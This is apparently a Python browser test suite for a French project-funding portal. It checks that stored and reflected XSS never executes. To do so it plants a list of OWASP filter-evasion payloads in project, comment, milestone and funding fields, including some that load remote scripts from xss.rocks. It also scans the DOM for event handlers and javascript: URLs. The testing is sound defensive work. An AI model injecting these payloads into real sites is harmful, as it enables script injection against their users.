"""Stored XSS: the OWASP filter-evasion vectors typed into every text and Markdown field, then every page
that shows them opened in Chromium. None may run: the ``page`` fixture fails the test on any dialog
(each vector calls ``alert``), console error (a Content-Security-Policy refusal is one: it means markup got
through) or uncaught exception; this test also refuses any request leaving the portal (a vector's remote
script or frame) and any event-handler attribute or ``javascript:`` URL in the final DOM.

The vectors are stored through the services, not the forms: what reaches the database unfiltered (an
import, a future form) must still be harmless when shown."""

from dataclasses import dataclass
from datetime import date
from urllib.parse import quote

import pytest

from portal.accounts.models import OrganisationKind, Role
from portal.core.partial_dates import parse_partial_date
from portal.funding.rules import EntryKind
from portal.funding.services.ledger import NewEntry, annul_entry, record_entry
from portal.projects.models import MemberRole, PartnerRole
from portal.projects.services.comments import post_comment
from portal.projects.services.members import add_member
from portal.projects.services.milestones import MilestoneData, add_milestone
from portal.projects.services.pages import PartnerChoice, ProjectData, update_project
from tests.browser.helpers import login_as
from tests.support.factories import make_organisation, make_project, make_public, make_theme, make_user

# From the OWASP XSS Filter Evasion Cheat Sheet, with a few mutation-XSS and Markdown ones; each calls
# alert() (or fetches a remote script, which the test refuses) if it ever runs.
VECTORS = [
    "<script>alert('xss-1')</script>",
    "<IMG SRC=\"javascript:alert('xss-2');\">",
    "<IMG SRC=JaVaScRiPt:alert('xss-3')>",
    "<IMG SRC=`javascript:alert(\"xss-4\")`>",
    "<a onmouseover=\"alert('xss-5')\">lien</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"xss-6\")</SCRIPT>\"\\>",
    "<IMG SRC=# onerror=\"alert('xss-7')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000057&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#39;&#49;&#48;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('xss-11');\">",
    "<IMG SRC=\" &#14;  javascript:alert('xss-12');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"xss-14\")>",
    "<<SCRIPT>alert(\"xss-15\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('xss-18');//",
    "</TITLE><SCRIPT>alert(\"xss-19\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('xss-20');\">",
    "<BODY BACKGROUND=\"javascript:alert('xss-21')\">",
    "<svg/onload=alert('xss-22')>",
    "<svg><script>alert('xss-23')</script></svg>",
    "<details open ontoggle=alert('xss-24')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-25')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-26')>\">",
    "<a href=\"javascript&colon;alert('xss-27')\">clic</a>",
    "[clic](javascript:alert('xss-28'))",
    "[clic](JaVaScRiPt:alert('xss-29'))",
    "![x](x\" onerror=\"alert('xss-30'))",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('xss-31');\">",
    "<IFRAME SRC=\"javascript:alert('xss-32');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('xss-33')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('xss-34'))\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzNSk8L3NjcmlwdD4=\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzYpPg==\">",
    "'\"><img src=x onerror=alert('xss-37')>",
    "{{constructor.constructor('alert(38)')()}}",
    "<base href=\"javascript:alert('xss-39')//\">",
    "<form><button formaction=javascript:alert('xss-40')>x</button></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=\">x</a>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "`<img src=x onerror=alert('xss-43')>`",
    "<div>**<img src=x onerror=alert('xss-44')>**</div>",
    "| a | <img src=x onerror=alert('xss-45')> |\n|---|---|\n| <script>alert('xss-45b')</script> | x |",
]
ALL = "\n\n".join(VECTORS)


def short(vector: str, number: int, limit: int) -> str:
    """The vector cut to a column's length, kept unique."""
    suffix = f" #{number}"
    return vector[: limit - len(suffix)] + suffix


@dataclass(frozen=True)
class Stored:
    admin: object
    project_id: int
    milestone_id: int
    comment_id: int
    entry_id: int
    organisation_id: int


@pytest.fixture(scope="module")
def stored(live_server) -> Stored:
    with live_server.database():
        admin = make_user(Role.ADMIN, full_name=short(VECTORS[0], 0, 120))
        themes = [make_theme(short(vector, number, 80)).id for number, vector in enumerate(VECTORS[:6])]
        publics = [make_public(short(vector, number, 80)).id for number, vector in enumerate(VECTORS[6:12])]
        carriers = []
        for number, vector in enumerate(VECTORS):
            carrier = make_organisation(short(vector, number, 200), OrganisationKind.ASSOCIATION)
            author = make_user(organisation=carrier, full_name=short(vector, number, 120))
            carriers.append((carrier, author))
            make_project(carrier, author, title=short(vector, number, 200),
                         summary=short(VECTORS[-number - 1], number, 300), description=vector)
        carrier, author = carriers[1]
        funder = carriers[2][0]
        fields = {"summary": VECTORS[3], "description": ALL, "theme_ids": themes, "public_ids": publics,
                  "communes": [short(vector, number, 120) for number, vector in enumerate(VECTORS[:5])]}
        project = make_project(carrier, author, title=short(VECTORS[2], 900, 200), **fields,
                               partners=[(funder, PartnerRole.FINANCEUR), (carriers[3][0], PartnerRole.OPERATIONNEL)])
        # A second revision: the history shows the vectors again, as differences.
        edited = {**fields, "summary": VECTORS[4], "description": ALL + "\n\nFin."}
        partners = [PartnerChoice(funder.id, PartnerRole.FINANCEUR), PartnerChoice(carriers[3][0].id,
                                                                                    PartnerRole.OPERATIONNEL)]
        update_project(admin, project, ProjectData(title=project.title, carrier_id=carrier.id, partners=partners,
                                                   **edited),
                       expected_version=None, reason=VECTORS[5])
        milestone = None
        for number, vector in enumerate(VECTORS):
            when = parse_partial_date(str(2000 + number % 20))
            milestone = add_milestone(author, project, MilestoneData("autre", short(vector, number, 200), when,
                                                                     text=vector))
            post_comment(carriers[number][1], project, vector)
        comment = post_comment(author, project, ALL)
        add_member(author, project, carriers[3][1], MemberRole.PERSONNE_CONCERNEE)
        entry = None
        for number, vector in enumerate(VECTORS[:12]):
            entry = record_entry(project, author, NewEntry(EntryKind.DEMANDE, 2024, date(2024, 2, 1), 1000 + number,
                                                           funder=funder, reference=short(vector, number, 200),
                                                           note=vector))
        annul_entry(project, author, entry, VECTORS[13])
        return Stored(admin=admin, project_id=project.id, milestone_id=milestone.id, comment_id=comment.id,
                      entry_id=entry.id - 1, organisation_id=carrier.id)


def pages(stored: Stored) -> list[str]:
    project = f"/projets/{stored.project_id}"
    return [
        "/tableau-de-bord", "/projets", "/projets?mots=script", "/projets/panorama", "/projets/listes",
        # Reflected: a vector in the address, shown back in the search and filter forms.
        f"/projets?mots={quote(VECTORS[36])}", f"/projets?mots={quote(VECTORS[0])}&territoire={quote(VECTORS[4])}",
        f"/admin/journal?action={quote(VECTORS[21])}",
        project, f"{project}/modifier", f"{project}/historique", f"{project}/membres",
        f"{project}/jalons/{stored.milestone_id}/modifier", f"{project}/financements",
        f"{project}/financements/{stored.entry_id}/annuler", f"{project}/financements/nouveau/demande",
        "/financements", "/admin/utilisateurs", "/admin/organisations",
        f"/admin/organisations/{stored.organisation_id}", "/admin/journal", "/compte",
    ]


def keep_off_the_network(page, live_server, left: list[str]) -> None:
    """Any request for another site (a vector's remote script, frame or stylesheet) is refused and noted."""

    def route(request_route):
        if request_route.request.url.startswith(live_server.url):
            request_route.continue_()
        else:
            left.append(request_route.request.url)
            request_route.abort()

    page.context.route("**/*", route)


ACTIVE_CONTENT = """() => {
    const found = [];
    for (const element of document.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
            const name = attribute.name.toLowerCase();
            const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
            if (name.startsWith('on') || /^(javascript|vbscript|data:text)/.test(value)) {
                found.push(`<${element.tagName.toLowerCase()} ${name}="${attribute.value.slice(0, 60)}">`);
            }
        }
    }
    return found;
}"""


def test_no_stored_vector_runs_on_any_page(stored, page, live_server):
    left = []
    keep_off_the_network(page, live_server, left)
    login_as(page, stored.admin)
    for path in pages(stored):
        response = page.goto(path)
        assert response.status == 200, f"{path}: {response.status}"
        page.wait_for_load_state("load")
        assert page.evaluate(ACTIVE_CONTENT) == [], f"active content on {path}"
    assert left == [], "requests left the portal"
    page.goto(f"/projets/{stored.project_id}")
    assert VECTORS[22] in page.locator("main").inner_text(), "a vector is shown as the text it is"
